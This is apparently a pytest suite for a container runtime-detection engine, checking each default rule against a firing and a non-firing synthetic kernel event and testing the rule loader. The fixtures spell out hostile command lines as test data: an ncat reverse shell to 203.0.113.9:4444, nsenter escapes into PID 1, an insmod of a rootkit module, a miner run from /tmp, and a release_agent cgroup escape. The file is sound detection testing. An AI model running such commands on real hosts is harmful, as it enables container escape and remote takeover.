"""The default rules: a positive and a negative case each, the samples, and the rule loader."""

from __future__ import annotations

import os
import tempfile
import time
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

from stockade.core.errors import InvalidInput
from stockade.worktrace import DEFAULT_RULES_DIR, Engine, RuleSet, RuleSource, load_rules

from .conftest import connect_event, exec_event, gke_lines, kprobe_event, line, socket_event

CAPS_ADMIN = ["CAP_SYS_ADMIN", "CAP_NET_ADMIN"]


def sock(daddr: str, dport: int) -> dict[str, Any]:
    return {
        "sock_arg": {
            "family": "AF_INET",
            "type": "SOCK_STREAM",
            "protocol": "IPPROTO_TCP",
            "saddr": "10.8.0.12",
            "daddr": daddr,
            "sport": 50000,
            "dport": dport,
        }
    }


def fd_install(path: str, **kw: Any) -> dict[str, Any]:
    return kprobe_event("fd_install", [{"int_arg": 3}, {"file_arg": {"path": path}}], **kw)


def _pid(event: dict[str, Any], pid: int, parent_pid: int | None = None) -> dict[str, Any]:
    body = event[next(iter(event))]
    body["process"]["pid"] = pid
    if parent_pid is not None:
        body["parent"]["pid"] = parent_pid
    return event


def _dup2(newfd: int, pid: int, oldfd: int = 3) -> dict[str, Any]:
    args: list[dict[str, Any]] = [{"int_arg": oldfd}, {"int_arg": newfd}]
    event = kprobe_event("__x64_sys_dup2", args, binary="/usr/bin/python3")
    event["process_kprobe"]["return"] = {"int_arg": newfd}
    return _pid(event, pid)


def _python_connects(pid: int) -> list[dict[str, Any]]:
    """A socket on fd 3, connected (the events the generated policy asks for)."""
    return [
        _pid(socket_event(3), pid),
        _pid(connect_event(3), pid),
        _pid(kprobe_event("tcp_connect", [sock("203.0.113.9", 4444)]), pid),
    ]


Case = dict[str, Any] | list[dict[str, Any]]

#: rule id -> (an event it must fire on, a close event it must not fire on); a list is a
#: sequence fed in order, whose last event is the one that fires (or not)
CASES: dict[str, tuple[Case, Case]] = {
    "release-agent-escape": (
        fd_install("/sys/fs/cgroup/rdma/x/release_agent"),
        fd_install("/sys/fs/cgroup/rdma/x/notify_on_release"),
    ),
    "debugfs-privileged": (
        exec_event("/usr/sbin/debugfs", "/dev/sda1", caps=CAPS_ADMIN),
        exec_event("/usr/sbin/debugfs", "/dev/sda1", caps=["CAP_CHOWN"]),
    ),
    "kernel-module-tool": (
        exec_event("/usr/sbin/insmod", "/tmp/rootkit.ko"),
        exec_event("/usr/sbin/lsmod"),
    ),
    "kernel-module-load": (
        kprobe_event("__x64_sys_finit_module", []),
        kprobe_event("__x64_sys_delete_module", []),
    ),
    "ptrace-attach": (
        kprobe_event("__x64_sys_ptrace", [{"int_arg": 16}]),
        kprobe_event("__x64_sys_ptrace", [{"int_arg": 0}]),  # PTRACE_TRACEME
    ),
    "drop-exec-tmp": (
        exec_event("/tmp/.x/miner", "--pool evil"),
        exec_event("/usr/bin/tmp-cleaner"),
    ),
    "drop-exec-home": (
        exec_event("/home/alice/a.out"),
        exec_event("/usr/local/bin/a.out"),
    ),
    "drop-exec-not-in-image": (
        exec_event("/usr/local/bin/dropped"),
        exec_event("/usr/bin/python3"),
    ),
    "nsenter-target": (
        exec_event("/usr/bin/nsenter", "--target=1 --mount --uts --ipc --net --pid bash"),
        exec_event("/usr/bin/nsenter", "--help"),
    ),
    "nsenter-busybox": (
        exec_event("/bin/busybox", "nsenter -t 1 -m sh"),
        exec_event("/bin/busybox", "ls -t /tmp"),
    ),
    "loader-exec-writable": (
        exec_event("/lib64/ld-linux-x86-64.so.2", "/dev/shm/x"),
        exec_event("/lib64/ld-linux-x86-64.so.2", "--list /usr/bin/python3"),
    ),
    "setns": (
        kprobe_event("__x64_sys_setns", [{"int_arg": 3}]),
        kprobe_event("__x64_sys_sethostname", [{"int_arg": 3}]),
    ),
    "memfd-exec": (
        exec_event("/memfd:payload (deleted)"),
        exec_event("/usr/bin/memfd-tool"),
    ),
    "memfd-create": (
        kprobe_event("__x64_sys_memfd_create", []),
        kprobe_event("__x64_sys_mmap", []),
    ),
    "exec-dev-shm": (
        exec_event("/dev/shm/.k"),
        exec_event("/dev/null"),
    ),
    "packet-socket": (
        kprobe_event("__x64_sys_socket", [{"int_arg": 17}]),
        kprobe_event("__x64_sys_socket", [{"int_arg": 2}]),  # AF_INET
    ),
    "reverse-shell-connect": (
        kprobe_event("tcp_connect", [sock("203.0.113.9", 4444)], binary="/bin/bash"),
        kprobe_event("tcp_connect", [sock("203.0.113.9", 4444)], binary="/usr/bin/curl"),
    ),
    "reverse-shell-stdio": (
        [
            *_python_connects(4242),
            _dup2(0, 4242),
            _dup2(1, 4242),
            _pid(exec_event("/bin/sh"), 4243, parent_pid=4242),  # pty.spawn's child
        ],
        [
            *_python_connects(4242),
            _pid(_dup2(0, 4243, oldfd=5), 4243, parent_pid=4242),  # subprocess: the child's
            _pid(_dup2(1, 4243, oldfd=7), 4243, parent_pid=4242),  # pipes
            _pid(exec_event("/bin/sh", "-c make"), 4243, parent_pid=4242),
        ],
    ),
    "reverse-shell-netcat": (
        exec_event("/usr/bin/ncat", "203.0.113.9 4444 -e /bin/sh"),
        exec_event("/usr/bin/ncat", "-l 8080"),
    ),
    "k8s-api-contact": (
        kprobe_event("tcp_connect", [sock("10.96.0.1", 443)], binary="/usr/bin/curl"),
        kprobe_event("tcp_connect", [sock("10.96.0.10", 53)], binary="/usr/bin/curl"),
    ),
    "proc-environ-foreign": (
        fd_install("/proc/1/environ", uid=1000),
        fd_install("/proc/self/environ", uid=1000),
    ),
    "unshare-tool": (
        exec_event("/usr/bin/unshare", "-r -m bash"),
        exec_event("/usr/bin/share"),
    ),
    "unshare-userns": (
        kprobe_event("__x64_sys_unshare", [{"int_arg": 0x10000000}]),
        kprobe_event("__x64_sys_unshare", [{"int_arg": 0x00020000}]),  # CLONE_NEWNS only
    ),
}

IMAGE_FILES = {"registry.local/python:3.12": frozenset({"/usr/bin/python3", "/bin/bash"})}


def _all_reported() -> RuleSet:
    """The default rules with every rule reporting, so a match shows as an alert."""
    text = (DEFAULT_RULES_DIR / "default.yaml").read_text().replace("report: false", "report: true")
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "default.yaml"
        path.write_text(text)
        return load_rules(path)


ALL_REPORTED = _all_reported()


def fired(case: Case) -> set[str]:
    """Rule ids matched for the case's (last) event (attack paths excluded)."""
    engine = Engine(ALL_REPORTED, image_files=IMAGE_FILES)
    events = case if isinstance(case, list) else [case]
    alerts: Sequence[Any] = ()
    for event in events:
        alerts = engine.feed(line(event))
    return {a.rule_id for a in alerts if a.kind == "rule"}


def test_every_default_rule_has_cases() -> None:
    assert set(CASES) == {r.id for r in load_rules().rules}
    assert not any(r.report is False for r in ALL_REPORTED.rules)


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_fires_on_its_positive_case(rule_id: str) -> None:
    assert rule_id in fired(CASES[rule_id][0])


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_stays_silent_on_its_negative_case(rule_id: str) -> None:
    assert rule_id not in fired(CASES[rule_id][1])


def test_reported_rules_alert_with_session_context() -> None:
    engine = Engine(load_rules(), image_files=IMAGE_FILES)
    for rule_id, (case, _) in sorted(CASES.items()):
        rule = engine.rules.by_id[rule_id]
        *before, positive = case if isinstance(case, list) else [case]
        for event in before:
            engine.feed(line(event))
        alerts = [a for a in engine.feed(line(positive)) if a.kind == "rule"]
        if rule.report:
            assert rule_id in {a.rule_id for a in alerts}
            alert = next(a for a in alerts if a.rule_id == rule_id)
            assert (alert.session.username, alert.session.workspace) == ("alice", "ws-alice")
            assert alert.session.session_id == "s-0001"
            assert alert.pod_name == "ws-alice-0"
            assert alert.ancestry[0] == positive[next(iter(positive))]["process"]["binary"]
        else:
            assert rule_id not in {a.rule_id for a in alerts}


def test_benign_gke_execs_raise_nothing() -> None:
    engine = Engine(load_rules(), image_files={})
    assert [a for raw in gke_lines() for a in engine.feed(raw)] == []
    assert engine.events == 3


def test_nsenter_escape_sample_alerts_tied_to_its_pod(nsenter_line: bytes) -> None:
    alerts = Engine(load_rules()).feed(nsenter_line)
    assert [a.rule_id for a in alerts] == ["nsenter-target"]
    alert = alerts[0]
    assert (alert.pod_namespace, alert.pod_name) == ("default", "privileged-pod")
    assert alert.node == "minikube"
    assert alert.binary == "/usr/bin/nsenter"
    assert alert.arguments == "-t 1 -m -u -n -i -p bash"
    assert alert.ancestry == ["/usr/bin/nsenter", "/bin/bash"]
    assert (
        alert.event["process_exec"]["process"]["exec_id"]
        == "bWluaWt1YmU6MTQzNTQzNTYzNTQyMzoxOTAwOQ=="
    )


def test_non_global_rule_ignores_host_processes_and_global_one_does_not(tmp_path: Path) -> None:
    host = exec_event("/usr/bin/nsenter", "-t 1 -m bash", pod=False)
    assert Engine(load_rules()).feed(line(host)) == ()
    (tmp_path / "g.yaml").write_text(
        "rules:\n"
        "  - {id: nsenter-any, confidence: 0.9, report: true, global: true,\n"
        "     process: {binary: [nsenter]}}\n"
    )
    assert [a.rule_id for a in Engine(load_rules(tmp_path)).feed(line(host))] == ["nsenter-any"]


# --- the loader: file:line and the key, hot reload ------------------------------------------

GOOD = """\
rules:
  - id: a
    confidence: 0.5
    report: true
    global: false
    process:
      binary: [a]
"""


@pytest.mark.parametrize(
    ("text", "line_no", "key"),
    [
        (GOOD.replace("confidence: 0.5", "confidence: 1.5"), 3, "rules[0].confidence"),
        (GOOD.replace("      binary: [a]", "      binray: [a]"), 7, "rules[0].process.binray"),
        (GOOD.replace("    report: true\n", ""), 2, "rules[0].report"),
        (GOOD + "    file:\n      path: [x]\n", 2, "rules[0]"),
        (
            GOOD.replace("    global: false\n", "    global: false\n    bogus: 1\n"),
            6,
            "rules[0].bogus",
        ),
        (GOOD.replace("id: a", "id: 'a b'"), 2, "rules[0].id"),
        (
            GOOD + "attack_paths:\n  - {id: p, time_window: soon, rules: [a, b]}\n",
            9,
            "attack_paths[0].time_window",
        ),
        (GOOD.replace("[a]", "[a"), 8, ""),
        (
            GOOD + "  - id: b\n    confidence: 0.1\n    report: true\n    global: false\n"
            "    syscall:\n      call: [sys_x]\n      args: [{index: 0, type: integer}]\n",
            14,
            "rules[1].syscall.args[0].type",
        ),
    ],
)
def test_invalid_rules_name_file_line_and_key(
    tmp_path: Path, text: str, line_no: int, key: str
) -> None:
    path = tmp_path / "rules.yaml"
    path.write_text(text)
    with pytest.raises(InvalidInput) as info:
        load_rules(path)
    assert info.value.field == f"{path}:{line_no}"
    assert info.value.problem.startswith(key)


def test_cross_file_problems_are_located(tmp_path: Path) -> None:
    (tmp_path / "1.yaml").write_text(GOOD)
    (tmp_path / "2.yaml").write_text(GOOD)
    with pytest.raises(InvalidInput, match=r"2\.yaml:2.*already defined at .*1\.yaml:2"):
        load_rules(tmp_path)
    (tmp_path / "2.yaml").write_text(
        "attack_paths:\n  - {id: p, time_window: 1m, rules: [a, zz]}\n"
    )
    with pytest.raises(InvalidInput, match=r"2\.yaml:2.*no rule zz"):
        load_rules(tmp_path)


def test_conflicting_argument_types_are_refused(tmp_path: Path) -> None:
    rule = (
        "  - {{id: {0}, confidence: 0.1, report: true, global: false, syscall: "
        "{{call: [tcp_connect], args: [{{index: 0, type: {1}}}]}}}}\n"
    )
    (tmp_path / "r.yaml").write_text(
        "rules:\n" + rule.format("x", "sock") + rule.format("y", "int")
    )
    with pytest.raises(InvalidInput, match="argument 0 of tcp_connect is int"):
        load_rules(tmp_path)


def test_stdio_rule_refuses_a_dup_argument_of_another_type(tmp_path: Path) -> None:
    """A stdio_socket rule reads dup2's newfd as an int: a rule typing it otherwise is refused
    (the event's argument list would not be what either expects)."""
    (tmp_path / "r.yaml").write_text(
        "rules:\n"
        "  - {id: x, confidence: 0.1, report: true, global: false,\n"
        "     syscall: {call: [sys_dup2], args: [{index: 1, type: string}]}}\n"
        "  - {id: s, confidence: 0.9, report: true, global: false,\n"
        "     process: {binary: [sh], stdio_socket: true}}\n"
    )
    with pytest.raises(InvalidInput, match=r"r\.yaml:4: rule s: argument 1 of sys_dup2 is int"):
        load_rules(tmp_path)


def test_hot_reload_swaps_valid_rules_and_keeps_them_on_errors(tmp_path: Path) -> None:
    path = tmp_path / "rules.yaml"
    path.write_text(GOOD)
    source = RuleSource(tmp_path)
    engine = Engine(source)
    event = line(exec_event("/usr/bin/b"))
    assert engine.feed(event) == ()
    path.write_text(GOOD.replace("[a]", "[b]"))
    os.utime(path, (time.time() + 5, time.time() + 5))
    assert source.reload() is True
    assert [a.rule_id for a in engine.feed(event)] == ["a"]
    path.write_text(GOOD.replace("confidence: 0.5", "confidence: nope"))
    assert source.reload() is False
    assert source.last_error.startswith(f"{path}:3")
    assert [a.rule_id for a in engine.feed(event)] == ["a"]  # the old set stays in service
    assert source.reload() is False  # the same broken revision is not retried
